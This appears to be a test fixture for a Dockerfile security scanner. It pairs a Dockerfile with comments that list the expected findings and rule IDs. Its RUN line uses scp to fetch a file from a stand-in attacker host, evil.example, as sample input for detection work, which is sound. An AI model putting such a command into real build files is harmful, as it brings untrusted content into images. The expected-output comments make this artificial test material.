FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN scp user@evil.example:/x /x
USER app
# expect: download 2 high "scp fetches user@evil.example:/x"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-3758028124 VR501-e064bac1a6
